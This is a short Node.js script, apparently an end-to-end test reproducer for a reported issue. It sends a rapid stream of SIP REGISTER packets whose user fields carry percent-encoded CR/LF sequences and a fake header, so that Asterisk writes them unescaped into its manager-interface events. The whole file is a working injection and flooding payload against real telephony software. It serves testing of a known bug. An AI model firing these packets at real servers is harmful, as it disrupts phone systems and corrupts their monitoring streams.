#!/usr/bin/env node
// The AMI-jamming attack of issue 12 for the end-to-end test: a UDP REGISTER every --interval ms
// whose From and To user is %-encoded CR/LF plus a fake header (`%0d%0aSet%3ax`) or two CR/LF
// (`%0d%0a%0d%0a`), taken in turn. Asterisk decodes it into the AMI AccountID unescaped.
//   node sip-jam.mjs --server 10.232.0.1 --seconds 20 [--interval 10] [--port 5060]
// Prints one JSON line at the end: {"sent":N}. Node's standard library only.
import dgram from 'node:dgram';
import crypto from 'node:crypto';

const args = process.argv.slice(2);
const opt = (name, def) => { const i = args.indexOf(`--${name}`); return i >= 0 ? args[i + 1] : def; };
const server = opt('server');
const port = Number(opt('port', '5060'));
const interval = Number(opt('interval', '10'));
const seconds = Number(opt('seconds', '20'));
if (!server) { process.stderr.write('--server is required\n'); process.exit(1); }

const USERS = ['%0d%0aSet%3ax', '%0d%0a%0d%0a'];
const rand = (n) => crypto.randomBytes(n).toString('hex');
const sock = dgram.createSocket(server.includes(':') ? 'udp6' : 'udp4');
sock.on('message', () => {}); // 401s and 404s: not read
sock.bind(0, () => {
  const local = sock.address();
  let sent = 0;
  const end = Date.now() + seconds * 1000;
  const timer = setInterval(() => {
    if (Date.now() >= end) {
      clearInterval(timer);
      process.stdout.write(`${JSON.stringify({ sent })}\n`);
      sock.close();
      return;
    }
    const user = USERS[sent % USERS.length];
    const msg = [
      `REGISTER sip:${server} SIP/2.0`,
      `Via: SIP/2.0/UDP ${local.address === '0.0.0.0' ? '127.0.0.1' : local.address}:${local.port};branch=z9hG4bK${rand(8)};rport`,
      'Max-Forwards: 70',
      `From: <sip:${user}@${server}>;tag=${rand(4)}`,
      `To: <sip:${user}@${server}>`,
      `Call-ID: ${rand(12)}@jam`,
      'CSeq: 1 REGISTER',
      `Contact: <sip:jam@${server}>`,
      'Expires: 60',
      'User-Agent: ampere-e2e-jam',
      'Content-Length: 0',
      '', '',
    ].join('\r\n');
    sock.send(msg, port, server);
    sent++;
  }, interval);
});
